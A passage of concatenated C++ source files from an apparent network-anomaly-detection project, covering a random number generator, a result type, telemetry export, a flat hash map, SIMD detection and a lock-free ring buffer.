    return static_cast<double>(next() >> 11) * 0x1.0p-53;
  }

  /// Uniform double in [lo, hi).
  double uniform(double lo, double hi) { return lo + (hi - lo) * uniform(); }

  /// Uniform integer in [0, n). n must be > 0.
  uint64_t below(uint64_t n) { return next() % n; }

  /// Uniform integer in [lo, hi] inclusive.
  int64_t range(int64_t lo, int64_t hi) {
    return lo + static_cast<int64_t>(below(static_cast<uint64_t>(hi - lo + 1)));
  }

  bool bernoulli(double p) { return uniform() < p; }

  /// Standard normal via Box-Muller (cached second value).
  double normal() {
    if (has_cached_) {
      has_cached_ = false;
      return cached_;
    }
    double u1 = 0.0;
    while (u1 <= 1e-300) u1 = uniform();
    const double u2 = uniform();
    const double r = std::sqrt(-2.0 * std::log(u1));
    const double theta = 2.0 * M_PI * u2;
    cached_ = r * std::sin(theta);
    has_cached_ = true;
    return r * std::cos(theta);
  }

  double normal(double mean, double sd) { return mean + sd * normal(); }

  /// Lognormal parameterized by the underlying normal's mu/sigma.
  double lognormal(double mu, double sigma) {
    return std::exp(normal(mu, sigma));
  }

  /// Exponential with the given rate (events per unit time).
  double exponential(double rate) {
    double u = 0.0;
    while (u <= 1e-300) u = uniform();
    return -std::log(u) / rate;
  }

  /// Poisson (Knuth's method; fine for the small lambdas we use).
  int poisson(double lambda) {
    const double limit = std::exp(-lambda);
    double prod = uniform();
    int n = 0;
    while (prod > limit) {
      prod *= uniform();
      ++n;
    }
    return n;
  }

  /// Pareto-like heavy tail used for flow sizes: xm * u^(-1/alpha).
  double pareto(double xm, double alpha) {
    double u = 0.0;
    while (u <= 1e-300) u = uniform();
    return xm * std::pow(u, -1.0 / alpha);
  }

  /// Pick a random index weighted by `weights` (need not be normalized).
  size_t weighted_choice(const std::vector<double>& weights) {
    double total = 0.0;
    for (double w : weights) total += w;
    double r = uniform() * total;
    for (size_t i = 0; i < weights.size(); ++i) {
      r -= weights[i];
      if (r <= 0.0) return i;
    }
    return weights.empty() ? 0 : weights.size() - 1;
  }

  /// Fisher-Yates shuffle of an index vector.
  template <typename T>
  void shuffle(std::vector<T>& v) {
    for (size_t i = v.size(); i > 1; --i) {
      const size_t j = below(i);
      std::swap(v[i - 1], v[j]);
    }
  }

  /// A child generator with an independent stream (for sub-components).
  Rng fork(uint64_t salt) {
    return Rng(next() ^ (salt * 0x9e3779b97f4a7c15ULL));
  }

 private:
  static uint64_t splitmix64(uint64_t& x) {
    x += 0x9e3779b97f4a7c15ULL;
    uint64_t z = x;
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
  }
  static uint64_t rotl(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }

  uint64_t s_[4]{};
  double cached_ = 0.0;
  bool has_cached_ = false;
};

}  // namespace lumen
