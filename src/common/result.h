// Minimal expected-style result type used across module boundaries for
// recoverable failures (bad configs, malformed packets, type errors).
// We deliberately avoid exceptions for these: a pipeline author's typo in a
// template file is an expected event, not an exceptional one.
#pragma once

#include <cassert>
#include <string>
#include <utility>
#include <variant>

namespace lumen {

/// A human-readable error; carries the failing component for context.
struct Error {
  std::string message;

  static Error make(std::string where, std::string what) {
    return Error{where + ": " + std::move(what)};
  }
};

/// Result<T> holds either a value or an Error. Modeled after
/// std::expected (not available in this toolchain's libstdc++).
template <typename T>
class [[nodiscard]] Result {
 public:
  Result(T value) : v_(std::move(value)) {}  // NOLINT: implicit by design
  Result(Error err) : v_(std::move(err)) {}  // NOLINT: implicit by design

  bool ok() const { return std::holds_alternative<T>(v_); }
  explicit operator bool() const { return ok(); }

  T& value() & {
    assert(ok());
    return std::get<T>(v_);
  }
  const T& value() const& {
    assert(ok());
    return std::get<T>(v_);
  }
  T&& value() && {
    assert(ok());
    return std::get<T>(std::move(v_));
  }

  const Error& error() const {
    assert(!ok());
    return std::get<Error>(v_);
  }

  T value_or(T fallback) const {
    return ok() ? std::get<T>(v_) : std::move(fallback);
  }

 private:
  std::variant<T, Error> v_;
};

/// Result<void>: success carries nothing.
template <>
class [[nodiscard]] Result<void> {
 public:
  Result() = default;
  Result(Error err) : err_(std::move(err)), failed_(true) {}  // NOLINT

  bool ok() const { return !failed_; }
  explicit operator bool() const { return ok(); }
  const Error& error() const {
    assert(failed_);
    return err_;
  }

 private:
  Error err_;
  bool failed_ = false;
};

}  // namespace lumen
