#include "common/telemetry.h"

#include <algorithm>
#include <cstdio>

namespace lumen::telemetry {

namespace detail {

unsigned stripe_index() {
  static std::atomic<unsigned> next{0};
  thread_local unsigned idx = next.fetch_add(1, std::memory_order_relaxed);
  return idx;
}

namespace {
struct TlSpan {
  Registry* reg;
  uint64_t id;
};

std::vector<TlSpan>& tl_span_stack() {
  thread_local std::vector<TlSpan> stack;
  return stack;
}
}  // namespace

}  // namespace detail

// ---------------------------------------------------------------------------
// Histogram

Histogram::Histogram(std::vector<double> bounds) : bounds_(std::move(bounds)) {
  std::sort(bounds_.begin(), bounds_.end());
  bounds_.erase(std::unique(bounds_.begin(), bounds_.end()), bounds_.end());
  const size_t n = bounds_.size() + 1;  // +Inf bucket
  for (Shard& s : shards_) {
    s.counts = std::make_unique<std::atomic<uint64_t>[]>(n);
    for (size_t i = 0; i < n; ++i) {
      s.counts[i].store(0, std::memory_order_relaxed);
    }
  }
}

std::vector<uint64_t> Histogram::bucket_counts() const {
  std::vector<uint64_t> out(bounds_.size() + 1, 0);
  for (const Shard& s : shards_) {
    for (size_t i = 0; i < out.size(); ++i) {
      out[i] += s.counts[i].load(std::memory_order_relaxed);
    }
  }
  return out;
}

uint64_t Histogram::count() const {
  uint64_t n = 0;
  for (const uint64_t c : bucket_counts()) n += c;
  return n;
}

double Histogram::sum() const {
  double s = 0.0;
  for (const Shard& sh : shards_) {
    s += detail::bits_double(sh.sum_bits.load(std::memory_order_relaxed));
  }
  return s;
}

void Histogram::reset() {
  for (Shard& s : shards_) {
    for (size_t i = 0; i < bounds_.size() + 1; ++i) {
      s.counts[i].store(0, std::memory_order_relaxed);
    }
    s.sum_bits.store(0, std::memory_order_relaxed);
  }
}

const std::vector<double>& Histogram::default_ns_bounds() {
  static const std::vector<double> bounds = {
      100.0,    250.0,    500.0,    1000.0,   2500.0,
      5000.0,   10000.0,  25000.0,  50000.0,  100000.0,
      250000.0, 500000.0, 1000000.0, 10000000.0};
  return bounds;
}

// ---------------------------------------------------------------------------
// Registry

Registry::Registry() : epoch_(std::chrono::steady_clock::now()) {}

Registry& Registry::process() {
  static Registry reg;
  return reg;
}

Counter& Registry::counter(std::string_view name) {
  std::lock_guard<std::mutex> lock(mu_);
  auto it = counters_.find(name);
  if (it == counters_.end()) {
    it = counters_.emplace(std::string(name), std::make_unique<Counter>())
             .first;
  }
  return *it->second;
}

Gauge& Registry::gauge(std::string_view name) {
  std::lock_guard<std::mutex> lock(mu_);
  auto it = gauges_.find(name);
  if (it == gauges_.end()) {
    it = gauges_.emplace(std::string(name), std::make_unique<Gauge>()).first;
  }
  return *it->second;
}

Histogram& Registry::histogram(std::string_view name) {
  return histogram(name, Histogram::default_ns_bounds());
}

Histogram& Registry::histogram(std::string_view name,
                               std::vector<double> bounds) {
  std::lock_guard<std::mutex> lock(mu_);
  auto it = histograms_.find(name);
  if (it == histograms_.end()) {
    it = histograms_
             .emplace(std::string(name),
                      std::make_unique<Histogram>(std::move(bounds)))
             .first;
  }
  return *it->second;
}

Snapshot Registry::snapshot() const {
  Snapshot snap;
  std::lock_guard<std::mutex> lock(mu_);
  snap.counters.reserve(counters_.size());
  for (const auto& [name, c] : counters_) {
    snap.counters.push_back({name, c->value()});
  }
  snap.gauges.reserve(gauges_.size());
  for (const auto& [name, g] : gauges_) {
    snap.gauges.push_back({name, g->value()});
  }
  snap.histograms.reserve(histograms_.size());
  for (const auto& [name, h] : histograms_) {
    HistogramSample s;
    s.name = name;
    s.bounds = h->bounds();
    s.counts = h->bucket_counts();
    s.sum = h->sum();
    for (const uint64_t c : s.counts) s.count += c;
    snap.histograms.push_back(std::move(s));
  }
  snap.spans.reserve(spans_.size());
  for (size_t i = 0; i < spans_.size(); ++i) {
    snap.spans.push_back(spans_[(span_head_ + i) % spans_.size()]);
  }
  return snap;
}

void Registry::reset() {
  std::lock_guard<std::mutex> lock(mu_);
  for (auto& [name, c] : counters_) c->reset();
  for (auto& [name, g] : gauges_) g->reset();
  for (auto& [name, h] : histograms_) h->reset();
  spans_.clear();
  span_head_ = 0;
}

void Registry::record_span(SpanRecord rec) {
  std::lock_guard<std::mutex> lock(mu_);
  if (spans_.size() < kSpanLogCapacity) {
    spans_.push_back(std::move(rec));
  } else {
    spans_[span_head_] = std::move(rec);
    span_head_ = (span_head_ + 1) % spans_.size();
  }
}

void Registry::set_span_flag(uint64_t id, bool flag) {
  std::lock_guard<std::mutex> lock(mu_);
  // Recently-recorded spans live near the logical end of the ring; scan
  // backwards from there.
  for (size_t i = spans_.size(); i-- > 0;) {
    SpanRecord& rec = spans_[(span_head_ + i) % spans_.size()];
    if (rec.id == id) {
      rec.flag = flag;
      return;
    }
  }
}

// ---------------------------------------------------------------------------
// Span

Span::Span(Registry* reg, std::string name, std::string detail)
    : reg_(reg), name_(std::move(name)), detail_(std::move(detail)) {
  if (reg_ == nullptr) return;
  id_ = reg_->next_span_id();
  auto& stack = detail::tl_span_stack();
  for (size_t i = stack.size(); i-- > 0;) {
    if (stack[i].reg == reg_) {
      parent_ = stack[i].id;
      break;
    }
  }
  for (const auto& e : stack) depth_ += e.reg == reg_;
  stack.push_back({reg_, id_});
  t0_ = std::chrono::steady_clock::now();  // after bookkeeping: time the body
}

void Span::stop() {
  if (reg_ == nullptr || seconds_ >= 0.0) return;
  seconds_ = std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                           t0_)
                 .count();
}

double Span::seconds() const { return seconds_ < 0.0 ? 0.0 : seconds_; }

Span::~Span() {
  if (reg_ == nullptr) return;
  stop();
  auto& stack = detail::tl_span_stack();
  // Spans are scoped objects, so this span is the innermost entry for its
  // registry; erase it even if foreign-registry spans were opened above it.
  for (size_t i = stack.size(); i-- > 0;) {
    if (stack[i].reg == reg_ && stack[i].id == id_) {
      stack.erase(stack.begin() + static_cast<ptrdiff_t>(i));
      break;
    }
  }
  SpanRecord rec;
  rec.id = id_;
  rec.parent = parent_;
  rec.depth = depth_;
  rec.name = std::move(name_);
  rec.detail = std::move(detail_);
  rec.start = reg_->epoch_seconds(t0_);
  rec.seconds = seconds_;
  rec.value = value_;
  rec.flag = flag_;
  reg_->record_span(std::move(rec));
}

// ---------------------------------------------------------------------------
// Snapshot lookups

const CounterSample* Snapshot::find_counter(std::string_view name) const {
  for (const CounterSample& s : counters) {
    if (s.name == name) return &s;
  }
  return nullptr;
}

const GaugeSample* Snapshot::find_gauge(std::string_view name) const {
  for (const GaugeSample& s : gauges) {
    if (s.name == name) return &s;
  }
  return nullptr;
}

const HistogramSample* Snapshot::find_histogram(std::string_view name) const {
  for (const HistogramSample& s : histograms) {
    if (s.name == name) return &s;
  }
  return nullptr;
}

const SpanRecord* Snapshot::find_span(uint64_t id) const {
  for (const SpanRecord& s : spans) {
    if (s.id == id) return &s;
  }
  return nullptr;
}

uint64_t Snapshot::counter_value(std::string_view name, uint64_t dflt) const {
  const CounterSample* s = find_counter(name);
  return s == nullptr ? dflt : s->value;
}

double Snapshot::gauge_value(std::string_view name, double dflt) const {
  const GaugeSample* s = find_gauge(name);
  return s == nullptr ? dflt : s->value;
}

// ---------------------------------------------------------------------------
// Prometheus exposition

namespace {

std::string prom_name(std::string_view name) {
  std::string out = "lumen_";
  for (const char c : name) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                    (c >= '0' && c <= '9') || c == '_' || c == ':';
    out.push_back(ok ? c : '_');
  }
  return out;
}

}  // namespace

std::string Snapshot::to_prometheus() const {
  std::string out;
  for (const CounterSample& s : counters) {
    const std::string n = prom_name(s.name);
    out += "# TYPE " + n + " counter\n";
    out += n + " " + std::to_string(s.value) + "\n";
  }
  for (const GaugeSample& s : gauges) {
    const std::string n = prom_name(s.name);
    out += "# TYPE " + n + " gauge\n";
    out += n + " " + json::Writer::format_number(s.value) + "\n";
  }
  for (const HistogramSample& s : histograms) {
    const std::string n = prom_name(s.name);
    out += "# TYPE " + n + " histogram\n";
    uint64_t cumulative = 0;
    for (size_t b = 0; b < s.bounds.size(); ++b) {
      cumulative += s.counts[b];
      out += n + "_bucket{le=\"" + json::Writer::format_number(s.bounds[b]) +
             "\"} " + std::to_string(cumulative) + "\n";
    }
    cumulative += s.counts.empty() ? 0 : s.counts.back();
    out += n + "_bucket{le=\"+Inf\"} " + std::to_string(cumulative) + "\n";
    out += n + "_sum " + json::Writer::format_number(s.sum) + "\n";
    out += n + "_count " + std::to_string(s.count) + "\n";
  }
  return out;
}

// ---------------------------------------------------------------------------
// JSON exposition

std::string Snapshot::to_json() const {
  json::Writer w;
  w.begin_object("counters");
  for (const CounterSample& s : counters) w.kv_u64(s.name, s.value);
  w.end();
  w.begin_object("gauges");
  for (const GaugeSample& s : gauges) w.kv_num(s.name, s.value);
  w.end();
  w.begin_array("histograms");
  for (const HistogramSample& s : histograms) {
    w.begin_inline_object();
    w.kv_str("name", s.name);
    std::string bounds, counts;
    for (size_t i = 0; i < s.bounds.size(); ++i) {
      bounds += (i ? ", " : "") + json::Writer::format_number(s.bounds[i]);
    }
    for (size_t i = 0; i < s.counts.size(); ++i) {
      counts += (i ? ", " : "") + std::to_string(s.counts[i]);
    }
    w.kv_raw("bounds", "[" + bounds + "]");
    w.kv_raw("counts", "[" + counts + "]");
    w.kv_num("sum", s.sum);
    w.kv_u64("count", s.count);
    w.end();
  }
  w.end();
  w.begin_array("spans");
  for (const SpanRecord& s : spans) {
    w.begin_inline_object();
    w.kv_u64("id", s.id);
    w.kv_u64("parent", s.parent);
    w.kv_u64("depth", s.depth);
    w.kv_str("name", s.name);
    w.kv_str("detail", s.detail);
    w.kv_f("start", s.start, 9);
    w.kv_f("seconds", s.seconds, 9);
    w.kv_u64("value", s.value);
    w.kv_bool("flag", s.flag);
    w.end();
  }
  w.end();
  return w.str();
}

namespace json {

Writer::Writer() {
  out_ = "{";
  stack_.push_back({'}', false});
}

void Writer::item_prefix() {
  Frame& top = stack_.back();
  if (!top.first) out_ += ",";
  top.first = false;
  if (top.inline_obj) {
    // `{"a": 1, "b": 2}`: no space after the brace, one after each comma.
    if (out_.back() != '{') out_ += " ";
  } else {
    out_ += "\n";
    out_.append(2 * stack_.size(), ' ');
  }
}

void Writer::key_prefix(std::string_view key) {
  item_prefix();
  out_ += "\"" + escape(key) + "\": ";
}

void Writer::begin_object(std::string_view key) {
  key_prefix(key);
  out_ += "{";
  stack_.push_back({'}', false});
}

void Writer::begin_array(std::string_view key) {
  key_prefix(key);
  out_ += "[";
  stack_.push_back({']', false});
}

void Writer::begin_inline_object() {
  item_prefix();
  out_ += "{";
  stack_.push_back({'}', true});
}

void Writer::begin_inline_object(std::string_view key) {
  key_prefix(key);
  out_ += "{";
  stack_.push_back({'}', true});
}

void Writer::end() {
  Frame top = stack_.back();
  stack_.pop_back();
  if (!top.inline_obj && !top.first) {
    out_ += "\n";
    out_.append(2 * stack_.size(), ' ');
  }
  out_ += top.close;
}

void Writer::kv_str(std::string_view key, std::string_view value) {
  key_prefix(key);
  out_ += "\"" + escape(value) + "\"";
}

void Writer::kv_bool(std::string_view key, bool value) {
  key_prefix(key);
  out_ += value ? "true" : "false";
}

void Writer::kv_u64(std::string_view key, uint64_t value) {
  key_prefix(key);
  out_ += std::to_string(value);
}

void Writer::kv_i64(std::string_view key, int64_t value) {
  key_prefix(key);
  out_ += std::to_string(value);
}

void Writer::kv_f(std::string_view key, double value, int decimals) {
  key_prefix(key);
  char buf[64];
  std::snprintf(buf, sizeof buf, "%.*f", decimals, value);
  out_ += buf;
}

void Writer::kv_num(std::string_view key, double value) {
  key_prefix(key);
  out_ += format_number(value);
}

void Writer::kv_raw(std::string_view key, std::string_view raw_json) {
  key_prefix(key);
  out_ += raw_json;
}

std::string Writer::str() {
  while (!stack_.empty()) end();
  out_ += "\n";
  return std::move(out_);
}

std::string Writer::escape(std::string_view s) {
  std::string out;
  out.reserve(s.size());
  for (const char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x", c);
          out += buf;
        } else {
          out.push_back(c);
        }
    }
  }
  return out;
}

std::string Writer::format_number(double v) {
  if (v == static_cast<double>(static_cast<long long>(v)) &&
      v > -1e15 && v < 1e15) {
    return std::to_string(static_cast<long long>(v));
  }
  char buf[64];
  std::snprintf(buf, sizeof buf, "%g", v);
  return buf;
}

}  // namespace json

}  // namespace lumen::telemetry
