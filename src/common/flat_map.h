// Open-addressing hash map for the per-packet hot path.
//
// The Kitsune extractor probes a context table four times per packet; with
// std::map<std::string, ...> each probe costs a string construction plus a
// pointer-chasing tree walk. FlatMap stores {key, value} pairs inline in one
// power-of-two array and resolves collisions by linear probing, so a probe
// is a hash, a masked index, and a short contiguous scan — no allocation,
// no pointer chasing. Keys are small trivially-copyable values (packed
// 64/128-bit context identifiers; see core/kitsune_extractor.h).
//
// Deletion is bulk-only: retain(pred) rebuilds the table keeping the
// entries the predicate accepts. That fits the one consumer — decay-weight
// context eviction — which removes a large batch rarely, and it keeps the
// probe sequences trivially correct (no tombstones, no backward shifting).
#pragma once

#include <cstddef>
#include <cstdint>
#include <utility>
#include <vector>

namespace lumen {

/// 64-bit finalizer (splitmix64): cheap, and good enough to keep linear
/// probe chains short for packed MAC/IP keys that differ in few bits.
inline uint64_t hash_u64(uint64_t x) {
  x += 0x9e3779b97f4a7c15ull;
  x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ull;
  x = (x ^ (x >> 27)) * 0x94d049bb133111ebull;
  return x ^ (x >> 31);
}

/// 128-bit key (e.g. canonical IP pair + canonical port pair).
struct Key128 {
  uint64_t hi = 0;
  uint64_t lo = 0;

  friend bool operator==(const Key128& a, const Key128& b) {
    return a.hi == b.hi && a.lo == b.lo;
  }
};

template <typename K>
struct FlatHash;

template <>
struct FlatHash<uint64_t> {
  uint64_t operator()(uint64_t k) const { return hash_u64(k); }
};

template <>
struct FlatHash<uint32_t> {
  uint64_t operator()(uint32_t k) const { return hash_u64(k); }
};

template <>
struct FlatHash<Key128> {
  uint64_t operator()(const Key128& k) const {
    return hash_u64(k.hi ^ hash_u64(k.lo));
  }
};

template <typename Key, typename Mapped, typename Hash = FlatHash<Key>>
class FlatMap {
 public:
  FlatMap() = default;

  size_t size() const { return size_; }
  bool empty() const { return size_ == 0; }
  /// Number of slots currently allocated (power of two, 0 when empty).
  size_t capacity() const { return slots_.size(); }

  void clear() {
    slots_.clear();
    size_ = 0;
  }

  /// Pre-size the table for at least `n` entries without rehashing later.
  void reserve(size_t n) {
    size_t want = kMinCapacity;
    while (want * kMaxLoadNum < n * kMaxLoadDen) want <<= 1;
    if (want > slots_.size()) rehash(want);
  }

  /// Find the value mapped to `k`, or nullptr.
  Mapped* find(const Key& k) {
    if (slots_.empty()) return nullptr;
    size_t i = index_of(k);
    while (slots_[i].used) {
      if (slots_[i].key == k) return &slots_[i].value;
      i = (i + 1) & mask_;
    }
    return nullptr;
  }
  const Mapped* find(const Key& k) const {
    return const_cast<FlatMap*>(this)->find(k);
  }

  /// Find `k`, inserting Mapped(args...) if absent. Returns the mapped
  /// value and whether an insert happened. References stay valid until the
  /// next insert / retain / clear.
  template <typename... Args>
  std::pair<Mapped*, bool> try_emplace(const Key& k, Args&&... args) {
    if (slots_.empty() ||
        (size_ + 1) * kMaxLoadDen > slots_.size() * kMaxLoadNum) {
      rehash(slots_.empty() ? kMinCapacity : slots_.size() * 2);
    }
    size_t i = index_of(k);
    while (slots_[i].used) {
      if (slots_[i].key == k) return {&slots_[i].value, false};
      i = (i + 1) & mask_;
    }
    slots_[i].used = true;
    slots_[i].key = k;
    slots_[i].value = Mapped(std::forward<Args>(args)...);
    ++size_;
    return {&slots_[i].value, true};
  }

  /// Visit every entry as f(key, value). Iteration order is the slot order
  /// (deterministic for a given insert history, but otherwise unspecified).
  template <typename F>
  void for_each(F&& f) const {
    for (const Slot& s : slots_) {
      if (s.used) f(s.key, s.value);
    }
  }
  template <typename F>
  void for_each(F&& f) {
    for (Slot& s : slots_) {
      if (s.used) f(s.key, s.value);
    }
  }

  /// Keep only the entries for which pred(key, value) is true; the table is
  /// rebuilt, so probe chains stay canonical. Returns how many entries were
  /// removed.
  template <typename Pred>
  size_t retain(Pred&& pred) {
    if (slots_.empty()) return 0;
    std::vector<Slot> old = std::move(slots_);
    const size_t before = size_;
    slots_.assign(old.size(), Slot{});
    mask_ = slots_.size() - 1;
    size_ = 0;
    for (Slot& s : old) {
      if (!s.used || !pred(s.key, s.value)) continue;
      size_t i = index_of(s.key);
      while (slots_[i].used) i = (i + 1) & mask_;
      slots_[i].used = true;
      slots_[i].key = s.key;
      slots_[i].value = std::move(s.value);
      ++size_;
    }
    return before - size_;
  }

 private:
  struct Slot {
    Key key{};
    Mapped value{};
    bool used = false;
  };

  static constexpr size_t kMinCapacity = 16;
  // Max load factor 3/4 keeps expected linear-probe chains at a few slots.
  static constexpr size_t kMaxLoadNum = 3;
  static constexpr size_t kMaxLoadDen = 4;

  size_t index_of(const Key& k) const { return Hash{}(k)&mask_; }

  void rehash(size_t new_cap) {
    std::vector<Slot> old = std::move(slots_);
    slots_.assign(new_cap, Slot{});
    mask_ = new_cap - 1;
    for (Slot& s : old) {
      if (!s.used) continue;
      size_t i = index_of(s.key);
      while (slots_[i].used) i = (i + 1) & mask_;
      slots_[i] = std::move(s);
    }
  }

  std::vector<Slot> slots_;
  size_t mask_ = 0;
  size_t size_ = 0;
};

}  // namespace lumen
