// Runtime SIMD capability detection for the dense-kernel library.
//
// The dense kernels (ml/dense.h) ship two implementations: a portable
// scalar path compiled everywhere, and an AVX2/FMA path compiled into its
// own translation unit with -mavx2 -mfma (only when the toolchain supports
// it; see LUMEN_NATIVE_SIMD in CMake). Which one runs is decided once at
// startup from three inputs:
//
//   1. what the toolchain compiled (is the AVX2 TU present at all?),
//   2. what the CPU reports via cpuid (AVX2 + FMA + OS xsave support),
//   3. the LUMEN_SIMD environment variable:
//        LUMEN_SIMD=off|scalar  force the scalar path,
//        LUMEN_SIMD=avx2|on     request AVX2 (ignored if unavailable),
//        unset / LUMEN_SIMD=auto  pick the best available path.
//
// This header only answers "what can the host run"; the kernel dispatch
// table lives in ml/dense.{h,cpp}.
#pragma once

#include <cstdlib>
#include <cstring>

#if defined(__x86_64__) || defined(_M_X64)
#include <cpuid.h>
#define LUMEN_SIMD_X86_64 1
#endif

namespace lumen::simd {

enum class Request {
  kAuto,    // use the best path the host supports
  kScalar,  // force the portable scalar kernels
  kAvx2,    // request AVX2/FMA (falls back to scalar if unavailable)
};

/// True when the CPU executes AVX2 + FMA and the OS saves YMM state.
inline bool cpu_has_avx2_fma() {
#ifdef LUMEN_SIMD_X86_64
  unsigned eax = 0, ebx = 0, ecx = 0, edx = 0;
  if (!__get_cpuid(1, &eax, &ebx, &ecx, &edx)) return false;
  const bool osxsave = (ecx & (1u << 27)) != 0;
  const bool avx = (ecx & (1u << 28)) != 0;
  const bool fma = (ecx & (1u << 12)) != 0;
  if (!osxsave || !avx || !fma) return false;
  // XCR0 bits 1|2: OS preserves XMM and YMM registers across context
  // switches. Inline asm because __builtin_ia32_xgetbv needs -mxsave, which
  // this header must not require of every TU.
  unsigned xlo = 0, xhi = 0;
  __asm__ volatile("xgetbv" : "=a"(xlo), "=d"(xhi) : "c"(0));
  const unsigned long long xcr0 =
      (static_cast<unsigned long long>(xhi) << 32) | xlo;
  if ((xcr0 & 0x6) != 0x6) return false;
  if (__get_cpuid_max(0, nullptr) < 7) return false;
  __cpuid_count(7, 0, eax, ebx, ecx, edx);
  return (ebx & (1u << 5)) != 0;  // AVX2
#else
  return false;
#endif
}

/// Parse a LUMEN_SIMD value. Unknown strings mean "auto" (never fail hard
/// on an env typo; the scalar path is always a safe landing).
inline Request parse_request(const char* v) {
  if (v == nullptr || v[0] == '\0') return Request::kAuto;
  if (std::strcmp(v, "off") == 0 || std::strcmp(v, "scalar") == 0 ||
      std::strcmp(v, "0") == 0 || std::strcmp(v, "none") == 0) {
    return Request::kScalar;
  }
  if (std::strcmp(v, "avx2") == 0 || std::strcmp(v, "on") == 0) {
    return Request::kAvx2;
  }
  return Request::kAuto;
}

/// The process-wide request from LUMEN_SIMD (read once).
inline Request env_request() {
  static const Request req = parse_request(std::getenv("LUMEN_SIMD"));
  return req;
}

}  // namespace lumen::simd
