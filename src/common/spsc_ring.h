// Single-producer/single-consumer lock-free ring buffer — the per-shard
// packet conduit for the flow-sharded ingest path.
//
// Design:
//   * Power-of-two capacity; head_/tail_ are monotonically increasing u64
//     positions (slot = position & mask), so full/empty never needs a
//     sacrificial slot and wrap-around is a masked index, not a reset.
//   * tail_ is written only by the producer, head_ only by the consumer.
//     Each side keeps a cached copy of the other's index on its own cache
//     line and refreshes it only when the cached view says "full"/"empty",
//     so the steady-state hot path touches no shared line but its own.
//   * Publication protocol: the producer move-assigns slots and then
//     store-releases tail_; the consumer load-acquires tail_ before
//     reading those slots (and symmetrically store-releases head_ after
//     moving items out, which the producer load-acquires before reusing
//     the slots). These two release/acquire pairs are the only
//     synchronization — there is no mutex anywhere.
//   * Blocking edges (empty consumer, full producer under kBlock) use an
//     escalating spin -> yield -> bounded-sleep backoff instead of a
//     futex/doorbell. An edge-triggered doorbell on top of cached indices
//     is a lost-wakeup trap (the producer can miss the empty->nonempty
//     edge through its stale cache and never ring), whereas a sleep
//     bounded at ~100us caps wake-up staleness without burning a core —
//     on a 1-core CI host the sleep is what lets the other side run.
//
// close() is the producer's end-of-stream signal: the consumer drains what
// remains and wait_nonempty() then returns false. It also doubles as the
// consumer-death signal — a closed ring stops accepting pushes so a
// producer can wind down instead of feeding an abandoned ring.
#pragma once

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstddef>
#include <cstdint>
#include <thread>
#include <utility>
#include <vector>

namespace lumen {

namespace detail {

inline void cpu_relax() {
#if defined(__x86_64__) || defined(__i386__)
  __builtin_ia32_pause();
#elif defined(__aarch64__)
  asm volatile("yield" ::: "memory");
#else
  std::this_thread::yield();
#endif
}

/// Escalating backoff for the ring's blocking edges: spin briefly (the
/// other side may publish within nanoseconds), then yield, then sleep in
/// doubling quanta capped at 128us so a blocked side never monopolizes a
/// core and wake-up latency stays bounded.
class Backoff {
 public:
  void wait() {
    if (rounds_ < 64) {
      cpu_relax();
    } else if (rounds_ < 80) {
      std::this_thread::yield();
    } else {
      std::this_thread::sleep_for(std::chrono::microseconds(sleep_us_));
      sleep_us_ = std::min<unsigned>(sleep_us_ * 2, 128);
    }
    ++rounds_;
  }

 private:
  int rounds_ = 0;
  unsigned sleep_us_ = 1;
};

}  // namespace detail

template <typename T>
class SpscRing {
 public:
  /// Capacity is rounded up to the next power of two (minimum 1).
  explicit SpscRing(size_t capacity) {
    size_t cap = 1;
    while (cap < capacity) cap <<= 1;
    slots_.resize(cap);
    mask_ = cap - 1;
  }

  size_t capacity() const { return slots_.size(); }

  // ---- producer side ------------------------------------------------------

  /// Move up to n items from items[0..n) into the ring. Returns how many
  /// were accepted (0 when full or closed); accepted items are moved-from,
  /// the rest are untouched. One release store publishes the whole batch.
  size_t try_push(T* items, size_t n) {
    if (n == 0 || closed_.load(std::memory_order_relaxed)) return 0;
    const uint64_t tail = tail_.load(std::memory_order_relaxed);
    size_t free = capacity() - static_cast<size_t>(tail - head_cache_);
    if (free < n) {
      head_cache_ = head_.load(std::memory_order_acquire);
      free = capacity() - static_cast<size_t>(tail - head_cache_);
      if (free == 0) return 0;
    }
    const size_t take = std::min(n, free);
    for (size_t i = 0; i < take; ++i) {
      slots_[static_cast<size_t>(tail + i) & mask_] = std::move(items[i]);
    }
    tail_.store(tail + take, std::memory_order_release);
    // Occupancy against the producer's cached head: never above capacity,
    // may overestimate the instantaneous value by whatever the consumer
    // drained since the last refresh (conservative for a high-water mark).
    const auto occ = static_cast<uint64_t>(tail + take - head_cache_);
    if (occ > high_water_.load(std::memory_order_relaxed)) {
      high_water_.store(occ, std::memory_order_relaxed);
    }
    return take;
  }

  bool try_push(T&& item) { return try_push(&item, 1) == 1; }

  /// Block until at least one slot is free or the ring is closed.
  /// Returns false when closed (the push would be refused anyway).
  bool wait_notfull() {
    detail::Backoff backoff;
    for (;;) {
      if (closed_.load(std::memory_order_acquire)) return false;
      const uint64_t tail = tail_.load(std::memory_order_relaxed);
      head_cache_ = head_.load(std::memory_order_acquire);
      if (static_cast<size_t>(tail - head_cache_) < capacity()) return true;
      backoff.wait();
    }
  }

  /// End-of-stream (or abandon-stream): pushes are refused from here on;
  /// the consumer drains the remainder and then sees "closed".
  void close() { closed_.store(true, std::memory_order_release); }

  bool closed() const { return closed_.load(std::memory_order_acquire); }

  /// Peak occupancy observed by the producer (see try_push for the
  /// conservative-overestimate caveat). Producer-written, safe to read
  /// from anywhere after the producer is done.
  size_t high_water() const {
    return static_cast<size_t>(high_water_.load(std::memory_order_relaxed));
  }

  // ---- consumer side ------------------------------------------------------

  /// Move up to max items into out (cleared first). Returns out.size().
  size_t try_pop(std::vector<T>& out, size_t max) {
    out.clear();
    if (max == 0) return 0;
    const uint64_t head = head_.load(std::memory_order_relaxed);
    uint64_t tail = tail_cache_;
    if (tail == head) {
